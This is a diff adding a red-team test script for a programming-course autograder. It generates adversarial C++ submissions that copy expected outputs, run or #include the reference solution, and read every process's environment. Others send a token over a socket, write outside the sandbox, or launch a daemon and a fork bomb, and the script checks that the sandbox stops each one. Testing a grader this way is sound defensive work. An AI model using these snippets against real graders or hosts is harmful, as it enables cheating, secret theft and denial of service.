@@ -1,0 +1,386 @@
+#!/usr/bin/env python3
+"""The grader's red team (CTest labels grader, long): submissions written as a determined student
+would, to win points without solving anything. Each one must score nothing on correctness (or be
+contained, with the reason in its output), must leave nothing running and nothing written outside
+its sandbox, and must not learn the grading's secrets; an honest stage graded beside them keeps
+its full marks.
+
+  grader_redteam.py PLAB_PROGRAM KIT_SOURCE_DIR SCRATCH_DIR [CASE ...]
+
+The attacks (each a stage's step.cpp; the hidden seed of these gradings is SEED):
+  read-golden     find an expected output on disk (beside the scene, up the parents' folders,
+                  the kit's datasets/golden, /autograder) and copy it as its own output
+  run-solution    find any plab-run-* program of the kit and run it on the same scene
+  include-path    #include the kit's solution by its absolute path (and a relative one)
+  spy             read its environment, its command line and every process's, report them
+  network         open a TCP connection to a listener of this test
+  write-outside   write files into /tmp, the kit, the grader's scratch parent and HOME
+  daemon          setsid() and a double fork: a child that keeps writing after the run
+  fork-bomb       fork without end (an honest stage 02 is graded after it in the same run)
+"""
+import json
+import os
+import pathlib
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+plab, kit, scratch = sys.argv[1], pathlib.Path(sys.argv[2]).resolve(), pathlib.Path(sys.argv[3])
+only = set(sys.argv[4:])
+SEED = 424242
+FOLDERS = {"01": "01-naive", "02": "02-heap", "03": "03-openmp"}
+TOKEN = f"plabredteam{os.getpid()}"
+failures = []
+
+HEAD = """#include <dirent.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
+#include <unistd.h>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <fstream>
+#include <sstream>
+#include <string>
+#include <vector>
+#include "plab/stage.hpp"
+
+namespace {
+// The runner's own arguments, from /proc/self/cmdline: {scene, ..., "--out", path}.
+std::vector<std::string> my_args() {
+  std::ifstream f("/proc/self/cmdline");
+  std::string all((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
+  std::vector<std::string> out;
+  std::string cur;
+  for (char c : all) { if (c) cur += c; else { out.push_back(cur); cur.clear(); } }
+  return out;
+}
+std::string arg_after(const std::string& flag) {
+  auto a = my_args();
+  for (size_t i = 0; i + 1 < a.size(); ++i) if (a[i] == flag) return a[i + 1];
+  return "";
+}
+std::string slurp(const std::string& path) {
+  std::ifstream f(path, std::ios::binary);
+  return std::string((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
+}
+// Every file under `dir` (depth-limited), skipping /proc, /sys and /dev.
+void walk(const std::string& dir, int depth, std::vector<std::string>& files) {
+  if (depth < 0 || dir == "/proc" || dir == "/sys" || dir == "/dev") return;
+  DIR* d = opendir(dir.c_str());
+  if (!d) return;
+  while (dirent* e = readdir(d)) {
+    std::string n = e->d_name;
+    if (n == "." || n == "..") continue;
+    std::string p = (dir == "/" ? "" : dir) + "/" + n;
+    struct stat st;
+    if (lstat(p.c_str(), &st) != 0) continue;
+    if (S_ISDIR(st.st_mode)) walk(p, depth - 1, files);
+    else if (S_ISREG(st.st_mode)) files.push_back(p);
+  }
+  closedir(d);
+}
+}  // namespace
+"""
+
+ATTACKS = {
+    "read-golden": r"""
+namespace plab {
+void step(const Box&, Particles& p) {
+  // The expected output starts with the scene's first particle at step 0.
+  char want[128];
+  std::snprintf(want, sizeof want, "0 0 %.8f %.8f", p.x[0], p.y[0]);
+  const std::string out = arg_after("--out");
+  std::vector<std::string> files;
+  for (const char* root : {"/", "/autograder", "KIT", "/tmp", "/plab"}) walk(root, 9, files);
+  int seen = 0;
+  for (const auto& f : files) {
+    if (f.size() < 4 || f.compare(f.size() - 4, 4, ".out") != 0) continue;
+    ++seen;
+    const std::string text = slurp(f);
+    if (text.compare(0, std::strlen(want), want) == 0 && !out.empty()) {
+      std::ofstream(out) << text;
+      std::fprintf(stderr, "copied %s\n", f.c_str());
+      _exit(0);
+    }
+  }
+  std::fprintf(stderr, "read-golden: %zu files, %d .out files, none matched\n", files.size(), seen);
+  _exit(1);
+}
+}  // namespace plab
+""",
+    "run-solution": r"""
+namespace plab {
+void step(const Box&, Particles&) {
+  auto a = my_args();
+  const std::string scene = a.size() > 1 ? a[1] : "", out = arg_after("--out");
+  std::vector<std::string> files;
+  for (const char* root : {"/", "/autograder", "KIT", "/proc/1/cwd", "/proc/self/cwd"})
+    walk(root, 9, files);
+  // the parents' working folders: the kit's build tree is near them
+  for (int pid : {getppid(), 1}) walk("/proc/" + std::to_string(pid) + "/cwd", 4, files);
+  int tried = 0;
+  for (const auto& f : files) {
+    if (f.find("plab-run-") == std::string::npos || f.find("student") != std::string::npos) continue;
+    ++tried;
+    pid_t child = fork();
+    if (child == 0) {
+      execl(f.c_str(), f.c_str(), scene.c_str(), "--quiet", "--out", out.c_str(), (char*)nullptr);
+      _exit(127);
+    }
+    int status = 0;
+    waitpid(child, &status, 0);
+    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
+      std::fprintf(stderr, "ran %s\n", f.c_str());
+      _exit(0);
+    }
+  }
+  std::fprintf(stderr, "run-solution: %zu files, %d programs tried, none worked\n", files.size(), tried);
+  _exit(1);
+}
+}  // namespace plab
+""",
+    "include-path": r"""
+#if __has_include("KIT/solutions/03-openmp/step.cpp")
+#include "KIT/solutions/03-openmp/step.cpp"
+#elif __has_include("../../solutions/03-openmp/step.cpp")
+#include "../../solutions/03-openmp/step.cpp"
+#elif __has_include("/autograder/source/solutions/03-openmp/step.cpp")
+#include "/autograder/source/solutions/03-openmp/step.cpp"
+#else
+namespace plab {
+void step(const Box&, Particles&) {}  // no solution found: nothing moves
+}  // namespace plab
+#endif
+""",
+    "spy": r"""
+namespace plab {
+void step(const Box&, Particles&) {
+  std::string report = "environ: " + slurp("/proc/self/environ") + "\n";
+  std::vector<std::string> files;
+  walk("/proc", 0, files);
+  DIR* d = opendir("/proc");
+  while (dirent* e = d ? readdir(d) : nullptr)
+    if (e->d_name[0] >= '0' && e->d_name[0] <= '9') {
+      std::string base = std::string("/proc/") + e->d_name;
+      report += base + " cmdline: " + slurp(base + "/cmdline") + " environ: " +
+                slurp(base + "/environ") + "\n";
+    }
+  if (d) closedir(d);
+  report += "ppid cmdline: " + slurp("/proc/" + std::to_string(getppid()) + "/cmdline") + "\n";
+  for (auto& c : report) if (c == '\0') c = ' ';
+  std::fprintf(stderr, "%s", report.c_str());
+  _exit(1);
+}
+}  // namespace plab
+""",
+    "network": r"""
+namespace plab {
+void step(const Box&, Particles&) {
+  int s = socket(AF_INET, SOCK_STREAM, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_port = htons(PORT);
+  inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
+  int rc = s < 0 ? -1 : connect(s, (sockaddr*)&a, sizeof a);
+  if (rc == 0) { const char msg[] = "leak TOKEN\n"; (void)!write(s, msg, sizeof msg - 1); }
+  std::fprintf(stderr, "network: socket %d connect %d (%s)\n", s, rc, std::strerror(errno));
+  _exit(1);
+}
+}  // namespace plab
+""",
+    "write-outside": r"""
+namespace plab {
+void step(const Box&, Particles&) {
+  int made = 0;
+  for (const char* path : {"/tmp/TOKEN-tmp", "KIT/TOKEN-kit", "/root/TOKEN-home",
+                           "/autograder/results/TOKEN-results", "SCRATCH/TOKEN-scratch",
+                           "/usr/TOKEN-usr"}) {
+    std::ofstream f(path);
+    if (f << "escaped\n") ++made;
+  }
+  std::fprintf(stderr, "write-outside: %d files written\n", made);
+  _exit(1);
+}
+}  // namespace plab
+""",
+    "daemon": r"""
+namespace plab {
+void step(const Box&, Particles&) {
+  static bool started = false;
+  if (started) return;
+  started = true;
+  if (fork() == 0) {
+    setsid();
+    if (fork() == 0) {
+      signal(SIGHUP, SIG_IGN);
+      prctl(PR_SET_NAME, "TOKEN", 0, 0, 0);
+      for (int k = 0; k < 600; ++k) {
+        std::ofstream("/tmp/TOKEN-daemon", std::ios::app) << k << "\n";
+        usleep(100000);
+      }
+      _exit(0);
+    }
+    _exit(0);
+  }
+}
+}  // namespace plab
+""",
+    "fork-bomb": r"""
+namespace plab {
+void step(const Box&, Particles&) {
+  for (;;) fork();
+}
+}  // namespace plab
+""",
+}
+
+
+def check(name, condition, message):
+    print(("ok   " if condition else "FAIL ") + f"{name}: {message}", flush=True)
+    if not condition:
+        failures.append(f"{name}: {message}")
+
+
+def submission(name, attacks, port=0):
+    """Stages 01-03 of the solutions, with the given {stage: attack} step.cpp in place."""
+    root = scratch / name
+    shutil.rmtree(root, ignore_errors=True)
+    for sid, folder in FOLDERS.items():
+        shutil.copytree(kit / "solutions" / folder, root / "stages" / folder)
+    for sid, attack in attacks.items():
+        code = (HEAD + ATTACKS[attack]).replace("KIT", str(kit)).replace("TOKEN", TOKEN)
+        code = code.replace("SCRATCH", str(scratch)).replace("PORT", str(port))
+        (root / "stages" / FOLDERS[sid] / "step.cpp").write_text(code)
+    return root
+
+
+def grade(name, root, stages="01,02,03"):
+    out = scratch / f"{name}.json"
+    start = time.time()
+    done = subprocess.run([plab, "grade", "--submission", root, "--stages", stages, "--out", out,
+                           "--seed", str(SEED), "--scratch", scratch], capture_output=True,
+                          text=True)
+    (scratch / f"{name}.log").write_text(done.stdout + done.stderr)
+    assert out.exists(), f"{name}: no results.json:\n{done.stdout[-3000:]}{done.stderr}"
+    doc = json.loads(out.read_text())
+    tests = {t["name"]: t for t in doc["tests"]}
+    assert "grader error" not in tests, tests.get("grader error", {}).get("output")
+    print(f"     ({name}: graded in {time.time() - start:.0f} s, sandbox "
+          f"{doc.get('extra_data', {}).get('sandbox')})", flush=True)
+    return tests, doc, done.stdout
+
+
+def correctness(tests, stage):
+    return {n: t for n, t in tests.items() if n.startswith(f"{stage}:") and "performance" not in n}
+
+
+def first_output(tests, stage):
+    return next((t["output"] for t in correctness(tests, stage).values()
+                 if not t["output"].startswith("not run")), "")
+
+
+def leftovers():
+    """Processes or files of the attacks still there after grading."""
+    time.sleep(1.5)  # a daemon that survived would write again by now
+    procs = subprocess.run(["pgrep", "-f", TOKEN], capture_output=True, text=True).stdout.split()
+    procs += subprocess.run(["pgrep", "-x", TOKEN[:15]], capture_output=True, text=True).stdout.split()
+    files = [str(p) for base in (pathlib.Path("/tmp"), kit, scratch, pathlib.Path("/root"),
+                                 pathlib.Path("/usr"))
+             for p in base.glob(f"{TOKEN}*")]
+    return sorted(set(procs) - {str(os.getpid())}), files
+
+
+def scored_nothing(name, tests, stage, attack):
+    got = sum(t["score"] for t in correctness(tests, stage).values())
+    check(attack, got == 0, f"stage {stage} scored {got} on correctness; its output: "
+          f"{first_output(tests, stage).splitlines()[:1]}")
+
+
+def case_copy():
+    tests, doc, _ = grade("redteam-copy", submission("redteam-copy", {
+        "01": "read-golden", "02": "run-solution", "03": "include-path"}))
+    for stage, attack in (("01", "read-golden"), ("02", "run-solution"), ("03", "include-path")):
+        scored_nothing("copy", tests, stage, attack)
+    print("     read-golden said: " + first_output(tests, "01").splitlines()[0][:150])
+    print("     run-solution said: " + first_output(tests, "02").splitlines()[0][:150])
+
+
+def case_escape():
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.5)
+    port, heard = listener.getsockname()[1], []
+
+    def listen():
+        end = time.time() + 1200
+        while time.time() < end and not getattr(listen, "stop", False):
+            try:
+                conn, _ = listener.accept()
+                heard.append(conn.recv(100))
+                conn.close()
+            except OSError:
+                continue
+    t = threading.Thread(target=listen, daemon=True)
+    t.start()
+    try:
+        tests, doc, stdout = grade("redteam-escape", submission("redteam-escape", {
+            "01": "spy", "02": "network", "03": "write-outside"}, port))
+    finally:
+        listen.stop = True
+        t.join()
+        listener.close()
+    for stage, attack in (("01", "spy"), ("02", "network"), ("03", "write-outside")):
+        scored_nothing("escape", tests, stage, attack)
+    everything = json.dumps(doc) + stdout
+    spied = "\n".join(t["output"] for t in correctness(tests, "01").values())
+    check("spy", str(SEED) not in spied and str(kit) not in spied and "plab-grade" not in spied,
+          "what student code saw holds neither the seed, nor the kit's path, nor the scratch "
+          f"(saw: {spied.splitlines()[1][:160] if len(spied.splitlines()) > 1 else spied[:160]!r})")
+    check("spy", "HOME=/root" not in spied and "PYENV" not in spied,
+          "the grader's environment did not reach student code")
+    check("network", not heard, f"no connection reached the test's listener ({heard[:2]})")
+    procs, files = leftovers()
+    check("write-outside", not files, f"no file written outside the sandbox ({files})")
+    print("     network said: " + first_output(tests, "02").splitlines()[-1][:150])
+    del everything
+
+
+def case_processes():
+    tests, doc, _ = grade("redteam-processes", submission("redteam-processes", {
+        "01": "fork-bomb", "03": "daemon"}))
+    scored_nothing("processes", tests, "01", "fork-bomb")
+    scored_nothing("processes", tests, "03", "daemon")
+    honest = correctness(tests, "02")
+    lost = [n for n, t in honest.items() if t["score"] < t["max_score"]]
+    check("fork-bomb", not lost, f"the honest stage 02 graded after it kept full marks "
+          f"({len(honest)} tests{'; lost ' + str(lost) if lost else ''})")
+    print("     fork-bomb: " + first_output(tests, "01").splitlines()[0][:150])
+    procs, files = leftovers()
+    check("daemon", not procs, f"nothing left running after grading (processes {procs})")
+    check("daemon", not files, f"the daemon wrote nothing outside ({files})")
+
+
+CASES = {"copy": case_copy, "escape": case_escape, "processes": case_processes}
+scratch.mkdir(parents=True, exist_ok=True)
+try:
+    for name, case in CASES.items():
+        if not only or name in only:
+            case()
+finally:
+    for p in scratch.glob("redteam-*"):
+        if p.is_dir():
+            shutil.rmtree(p, ignore_errors=True)
+if failures:
+    sys.exit("red-team failures:\n  " + "\n  ".join(failures))
+print("every attack was stopped; the honest stage kept its marks")
